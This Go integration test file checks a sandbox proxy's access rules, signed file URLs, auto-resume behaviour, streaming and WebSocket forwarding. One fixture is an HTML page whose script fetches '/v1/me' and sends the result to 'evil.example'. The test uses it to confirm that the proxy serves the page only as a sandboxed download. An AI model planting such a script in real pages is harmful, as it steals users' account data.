package proxy_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/capsulehq/capsule/internal/envdapi"
	"github.com/capsulehq/capsule/internal/hosttest"
	"github.com/capsulehq/capsule/internal/proxy"
	"github.com/capsulehq/capsule/internal/service"
	"github.com/capsulehq/capsule/internal/service/servicetest"
	"github.com/capsulehq/capsule/internal/store"
)

const domain = "capsule.test"

type fixture struct {
	t    *testing.T
	env  *servicetest.Env
	srv  *httptest.Server
	ctx  context.Context
	bin  string
	team service.Principal
	key  string
	// clock is the services' clock (real time plus what the test
	// advanced it by).
	clock *offsetClock
}

// offsetClock is real time moved forward by Advance: the services' clock
// in these tests, so that a throttle's second passes without a sleep.
type offsetClock struct {
	mu  sync.Mutex
	off time.Duration
}

func (c *offsetClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return time.Now().Add(c.off)
}

func (c *offsetClock) Advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.off += d
}

func newFixture(t *testing.T) *fixture {
	url := hosttest.StartAgent(t, hosttest.ProxyPool).URL
	clock := &offsetClock{}
	env := servicetest.NewWith(t, url, hosttest.AgentToken, func(c *service.ServicesConfig) { c.Now = clock.Now })
	h, err := proxy.New(proxy.Config{Domain: domain, Resolver: proxy.ServiceResolver{
		Sandboxes: env.Sandboxes, Accounts: env.Accounts,
		Agents: env.Agents,
	}})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	bin := filepath.Join(t.TempDir(), "guestsrv")
	build := exec.Command("go", "build", "-o", bin, "./testdata/guestsrv")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build the guest server: %v\n%s", err, out)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
	t.Cleanup(cancel)
	p, key := env.Account(t, "proxy@example.com")
	return &fixture{t: t, env: env, srv: srv, ctx: ctx, bin: bin, team: p, key: key, clock: clock}
}

// sandbox creates a sandbox running the guest server on 127.0.0.1:8080.
func (f *fixture) sandbox(req service.CreateSandbox) service.Sandbox {
	f.t.Helper()
	req.Template, req.MemoryMB = "minimal", 256
	sb, err := f.env.Sandboxes.Create(f.ctx, f.team, req)
	if err != nil {
		f.t.Fatal(err)
	}
	f.t.Cleanup(func() { _ = f.env.Sandboxes.Destroy(context.Background(), f.team, sb.ID) })
	bin, err := os.Open(f.bin)
	if err != nil {
		f.t.Fatal(err)
	}
	defer bin.Close()
	if _, err := f.env.Sandboxes.WriteFile(f.ctx, f.team, sb.ID, "/usr/local/bin/guestsrv", "root", bin, -1); err != nil {
		f.t.Fatal(err)
	}
	res, err := f.env.Sandboxes.Run(f.ctx, f.team, sb.ID, service.ExecCommand{User: "root",
		Cmd: "chmod +x /usr/local/bin/guestsrv && setsid /usr/local/bin/guestsrv </dev/null >/tmp/guestsrv.log 2>&1 &"}, nil, false)
	if err != nil || res.ExitCode != 0 {
		f.t.Fatalf("start the guest server: %+v, %v", res, err)
	}
	// envd's forwarder picks the loopback listener up within a second.
	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, _ := f.get(sb.ID.String(), 8080, "/", map[string]string{"X-API-Key": f.key})
		if resp == 200 {
			return sb
		}
		if time.Now().After(deadline) {
			f.t.Fatalf("the guest server never answered through the proxy (%d)", resp)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// get sends GET path to a sandbox's port by host name.
func (f *fixture) get(id string, port int, path string, hdr map[string]string) (int, string) {
	f.t.Helper()
	return f.do("GET", fmt.Sprintf("%d-%s.%s", port, id, domain), path, hdr, nil)
}

func (f *fixture) do(method, host, path string, hdr map[string]string, body []byte) (int, string) {
	f.t.Helper()
	c, b, _ := f.doH(method, host, path, hdr, body)
	return c, b
}

// doH is do with the answer's headers.
func (f *fixture) doH(method, host, path string, hdr map[string]string, body []byte) (int, string, http.Header) {
	f.t.Helper()
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, _ := http.NewRequestWithContext(f.ctx, method, f.srv.URL+path, rd)
	req.Host = host
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := f.srv.Client().Do(req)
	if err != nil {
		f.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

type errBody struct {
	SandboxID string `json:"sandboxId"`
	Message   string `json:"message"`
	Code      int    `json:"code"`
}

func decodeErr(t *testing.T, body string) errBody {
	t.Helper()
	var e errBody
	if err := json.Unmarshal([]byte(body), &e); err != nil {
		t.Fatalf("error body %q: %v", body, err)
	}
	return e
}

// TestProxyAccessRules: every access rule of the proxy, against real
// sandboxes through a real agent, with the control plane's resolver.
func TestProxyAccessRules(t *testing.T) {
	f := newFixture(t)
	private := f.sandbox(service.CreateSandbox{})
	id := private.ID.String()
	_, otherKey := f.env.Account(t, "other@example.com")

	// The user port of a private sandbox.
	c, body := f.get(id, 8080, "/", nil)
	if e := decodeErr(t, body); c != 403 || !strings.Contains(e.Message, "is missing") || e.SandboxID != id {
		t.Fatalf("no credentials: %d %s", c, body)
	}
	c, body = f.get(id, 8080, "/", map[string]string{"E2b-Traffic-Access-Token": "nope"})
	if e := decodeErr(t, body); c != 403 || !strings.Contains(e.Message, "is invalid") {
		t.Fatalf("wrong traffic token: %d %s", c, body)
	}
	if c, body = f.get(id, 8080, "/", map[string]string{"X-API-Key": otherKey}); c != 403 {
		t.Fatalf("another team's API key: %d %s", c, body)
	}
	c, body = f.get(id, 8080, "/", map[string]string{"E2b-Traffic-Access-Token": private.TrafficToken})
	if c != 200 || !strings.Contains(body, "hello from the guest; host=8080-"+id+"."+domain) {
		t.Fatalf("traffic token: %d %s", c, body)
	}
	// The team's API key opens it too, and stays here.
	if c, body = f.get(id, 8080, "/", map[string]string{"X-API-Key": f.key}); c != 200 || !strings.Contains(body, `api-key=""`) {
		t.Fatalf("the team's API key: %d %s", c, body)
	}

	// envd's port: only with the sandbox's envd token, or what envd checks
	// itself; its internal routes never.
	envdHdr := map[string]string{"X-Access-Token": private.EnvdAccessToken}
	if c, body = f.get(id, 49983, "/health", nil); c != 204 && c != 200 {
		t.Fatalf("envd /health: %d %s", c, body)
	}
	if c, body = f.get(id, 49983, "/files?path=/etc/hostname", envdHdr); c != 200 {
		t.Fatalf("envd with its token: %d %s", c, body)
	}
	for _, tc := range []struct {
		name, path string
		hdr        map[string]string
		status     int
	}{
		{"no token", "/files?path=/etc/hostname", nil, 401},
		{"wrong token", "/files?path=/etc/hostname", map[string]string{"X-Access-Token": "x"}, 401},
		{"the team's API key is not an envd token", "/files?path=/etc/hostname", map[string]string{"X-API-Key": f.key}, 401},
		{"the traffic token is not an envd token", "/files?path=/etc/hostname", map[string]string{"E2b-Traffic-Access-Token": private.TrafficToken}, 401},
		{"an RPC without a token", "/process.Process/List", nil, 401},
		{"a forged signature (envd checks it)", "/files?path=/etc/hostname&signature=v1_forged", nil, 401},
		{"/init with the token", "/init", envdHdr, 404},
		{"/init/ cleaned", "/init/", envdHdr, 404},
	} {
		if c, body := f.get(id, 49983, tc.path, tc.hdr); c != tc.status {
			t.Errorf("%s: %d %s, want %d", tc.name, c, body, tc.status)
		}
	}

	// The routing headers on a localhost host, as E2B_SANDBOX_URL does.
	if c, body = f.do("GET", "localhost", "/files?path=/etc/hostname", map[string]string{
		proxy.HeaderSandboxID: id, proxy.HeaderSandboxPort: "49983", "X-Access-Token": private.EnvdAccessToken,
	}, nil); c != 200 {
		t.Fatalf("routing headers: %d %s", c, body)
	}
	if c, body = f.do("GET", "localhost", "/", map[string]string{proxy.HeaderSandboxID: id}, nil); c != 400 || !strings.Contains(body, "missing header") {
		t.Fatalf("one routing header: %d %s", c, body)
	}

	// Signed file URLs on the plain server address (what the SDKs'
	// downloadUrl/uploadUrl are with E2B_SANDBOX_URL): routed by the
	// sandbox whose token signed them.
	read := "/files?path=%2Fetc%2Fhostname&signature=" + url.QueryEscape(envdapi.FileSignature("/etc/hostname", "read", "", private.EnvdAccessToken, nil))
	if c, body = f.do("GET", "localhost", read, nil, nil); c != 200 || body == "" {
		t.Fatalf("signed download URL: %d %s", c, body)
	}
	forged := "/files?path=%2Fetc%2Fhostname&signature=" + url.QueryEscape(envdapi.FileSignature("/etc/hostname", "read", "", "not-the-token", nil))
	if c, body = f.do("GET", "localhost", forged, nil, nil); c != 502 {
		t.Fatalf("forged signed URL: %d %s", c, body)
	}
	// A read signature does not make a write URL.
	if c, body = f.do("POST", "localhost", strings.Replace(read, "/files?", "/files?", 1), nil, []byte("x")); c != 502 {
		t.Fatalf("read signature used to write: %d %s", c, body)
	}

	// An HTML page a sandbox wrote never renders on the sandbox listener's
	// origin (shared by every sandbox's signed URLs): envd's /files answers
	// are downloads, not sniffed, sandboxed by CSP, however they are
	// reached.
	page := "<html><script>fetch('/v1/me').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script></html>"
	if _, err := f.env.Sandboxes.WriteFile(f.ctx, f.team, private.ID, "/home/user/evil.html", "user", strings.NewReader(page), int64(len(page))); err != nil {
		t.Fatal(err)
	}
	exp := time.Now().Add(time.Minute).Unix()
	signedHTML := "/files?path=%2Fhome%2Fuser%2Fevil.html&signature=" + url.QueryEscape(envdapi.FileSignature("/home/user/evil.html", "read", "", private.EnvdAccessToken, &exp)) +
		"&signature_expiration=" + fmt.Sprint(exp)
	for _, tc := range []struct {
		name, host, path string
		hdr              map[string]string
	}{
		{"signed URL, no routing", "localhost", signedHTML, nil},
		{"signed URL by host", fmt.Sprintf("49983-%s.%s", id, domain), signedHTML, nil},
		{"envd token by headers", "localhost", "/files?path=%2Fhome%2Fuser%2Fevil.html",
			map[string]string{proxy.HeaderSandboxID: id, proxy.HeaderSandboxPort: "49983", "X-Access-Token": private.EnvdAccessToken}},
	} {
		t.Run("html download: "+tc.name, func(t *testing.T) {
			c, body, h := f.doH("GET", tc.host, tc.path, tc.hdr, nil)
			if c != 200 || body != page {
				t.Fatalf("%d %q", c, body)
			}
			if d := h.Get("Content-Disposition"); d != `attachment; filename=evil.html` {
				t.Errorf("Content-Disposition %q", d)
			}
			if v := h.Get("X-Content-Type-Options"); v != "nosniff" {
				t.Errorf("X-Content-Type-Options %q", v)
			}
			if v := h.Get("Content-Security-Policy"); !strings.HasPrefix(v, "sandbox") || !strings.Contains(v, "default-src 'none'") {
				t.Errorf("Content-Security-Policy %q", v)
			}
		})
	}

	// Unknown IDs and closed ports: E2B's 502 bodies.
	c, body = f.get("0123456789abcdef0123456789abcdef", 8080, "/", nil)
	if e := decodeErr(t, body); c != 502 || e.Message != "The sandbox was not found" || e.Code != 502 {
		t.Fatalf("unknown sandbox: %d %s", c, body)
	}
	c, body = f.get(id, 8081, "/", map[string]string{"X-API-Key": f.key})
	if e := decodeErr(t, body); c != 502 || e.Message != "The sandbox is running but port is not open" {
		t.Fatalf("closed port: %d %s", c, body)
	}

	// A public sandbox's ports are open to anyone; envd's is not.
	public := f.sandbox(service.CreateSandbox{PublicTraffic: true, TimeoutSec: 600})
	pid := public.ID.String()
	if c, body = f.get(pid, 8080, "/", nil); c != 200 {
		t.Fatalf("public sandbox: %d %s", c, body)
	}
	if c, _ = f.get(pid, 49983, "/files?path=/etc/hostname", nil); c != 401 {
		t.Fatalf("public sandbox's envd without a token: %d", c)
	}

	// Traffic is activity: the deadline moves.
	before := row(t, f, public)
	f.clock.Advance(1100 * time.Millisecond) // past the once-a-second throttle of activity
	if c, _ = f.get(pid, 8080, "/", nil); c != 200 {
		t.Fatal(c)
	}
	if after := row(t, f, public); !after.EndAt.After(before.EndAt) {
		t.Fatalf("deadline %v → %v after traffic", before.EndAt, after.EndAt)
	}

	// Paused: 502, unless created with auto-resume, which traffic resumes
	// (once, however many requests arrive together).
	if _, err := f.env.Sandboxes.Pause(f.ctx, f.team, public.ID); err != nil {
		t.Fatal(err)
	}
	if c, body = f.get(pid, 8080, "/", nil); c != 502 {
		t.Fatalf("paused sandbox: %d %s", c, body)
	}
	auto := f.sandbox(service.CreateSandbox{PublicTraffic: true, AutoResume: true})
	aid := auto.ID.String()
	if _, err := f.env.Sandboxes.Pause(f.ctx, f.team, auto.ID); err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	codes := make(chan int, 8)
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, _ := f.get(aid, 8080, "/", nil)
			codes <- c
		}()
	}
	wg.Wait()
	close(codes)
	for c := range codes {
		if c != 200 {
			t.Fatalf("request to an auto-resumed sandbox: %d", c)
		}
	}
	if r := row(t, f, auto); r.State != store.SandboxRunning {
		t.Fatalf("auto-resumed sandbox is %s", r.State)
	}

	// A private sandbox with auto-resume: traffic is authorized against its
	// record before it is resumed. No unauthenticated request (nor a forged
	// credential, nor envd's open /health) resumes it; a valid one does.
	sleeper := f.sandbox(service.CreateSandbox{AutoResume: true})
	sid := sleeper.ID.String()
	if _, err := f.env.Sandboxes.Pause(f.ctx, f.team, sleeper.ID); err != nil {
		t.Fatal(err)
	}
	forgedSig := "/files?path=%2Fetc%2Fhostname&signature=" + url.QueryEscape(envdapi.FileSignature("/etc/hostname", "read", "", "forged", nil))
	for _, tc := range []struct {
		name, path string
		port       int
		hdr        map[string]string
		status     int
	}{
		{"no credentials", "/", 8080, nil, 403},
		{"a wrong traffic token", "/", 8080, map[string]string{"E2b-Traffic-Access-Token": private.TrafficToken}, 403},
		{"another team's API key", "/", 8080, map[string]string{"X-API-Key": otherKey}, 403},
		{"envd without a token", "/files?path=/etc/hostname", 49983, nil, 401},
		{"envd with another sandbox's token", "/files?path=/etc/hostname", 49983, map[string]string{"X-Access-Token": private.EnvdAccessToken}, 401},
		{"a forged signature", forgedSig, 49983, nil, 401},
		{"envd's open /health", "/health", 49983, nil, 502},
	} {
		t.Run("asleep: "+tc.name, func(t *testing.T) {
			if c, body := f.get(sid, tc.port, tc.path, tc.hdr); c != tc.status {
				t.Fatalf("%d %s, want %d", c, body, tc.status)
			}
			if r := row(t, f, sleeper); r.State != store.SandboxPaused {
				t.Fatalf("the sandbox is %s after an unauthorized request", r.State)
			}
		})
	}
	if c, body := f.get(sid, 8080, "/", map[string]string{"E2b-Traffic-Access-Token": sleeper.TrafficToken}); c != 200 {
		t.Fatalf("its traffic token: %d %s", c, body)
	}
	if r := row(t, f, sleeper); r.State != store.SandboxRunning {
		t.Fatalf("resumed by an authorized request: %s", r.State)
	}
}

func row(t *testing.T, f *fixture, sb service.Sandbox) service.Sandbox {
	t.Helper()
	got, err := f.env.Sandboxes.Get(f.ctx, f.team, sb.ID)
	if err != nil {
		t.Fatal(err)
	}
	return got
}

// TestProxyStreamsAndWebSockets: bodies both ways, streamed responses,
// WebSocket upgrades, and 100 parallel requests to one sandbox.
func TestProxyStreamsAndWebSockets(t *testing.T) {
	f := newFixture(t)
	sb := f.sandbox(service.CreateSandbox{PublicTraffic: true, TimeoutSec: 600})
	host := fmt.Sprintf("8080-%s.%s", sb.ID.String(), domain)

	payload := bytes.Repeat([]byte("0123456789abcdef"), 256<<10) // 4 MiB
	if c, body := f.do("POST", host, "/echo", nil, payload); c != 200 || body != string(payload) {
		t.Fatalf("echo: %d, %d bytes back", c, len(body))
	}

	// A streamed response arrives chunk by chunk, not at the end.
	req, _ := http.NewRequestWithContext(f.ctx, "GET", f.srv.URL+"/stream", nil)
	req.Host = host
	resp, err := f.srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 64)
	start := time.Now()
	n, err := resp.Body.Read(buf)
	if err != nil || string(buf[:n]) != "chunk 0\n" || time.Since(start) > 500*time.Millisecond {
		t.Fatalf("first chunk %q after %v: %v", buf[:n], time.Since(start), err)
	}
	rest, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(rest) != "chunk 1\nchunk 2\n" {
		t.Fatalf("rest of the stream %q", rest)
	}

	// WebSocket echo through the proxy.
	wsURL := "ws" + strings.TrimPrefix(f.srv.URL, "http") + "/ws"
	conn, _, err := websocket.Dial(f.ctx, wsURL, &websocket.DialOptions{Host: host})
	if err != nil {
		t.Fatalf("websocket dial: %v", err)
	}
	defer conn.CloseNow()
	for i := range 5 {
		msg := fmt.Sprintf("message %d", i)
		if err := conn.Write(f.ctx, websocket.MessageText, []byte(msg)); err != nil {
			t.Fatal(err)
		}
		_, got, err := conn.Read(f.ctx)
		if err != nil || string(got) != "echo: "+msg {
			t.Fatalf("websocket echo %q, %v", got, err)
		}
	}
	conn.Close(websocket.StatusNormalClosure, "")

	// 100 parallel requests.
	var wg sync.WaitGroup
	errs := make(chan string, 100)
	for i := range 100 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			body := []byte(fmt.Sprintf("request %d", i))
			if c, got := f.do("POST", host, "/echo", nil, body); c != 200 || got != string(body) {
				errs <- fmt.Sprintf("%d %q", c, got)
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Errorf("parallel request: %s", e)
	}
}
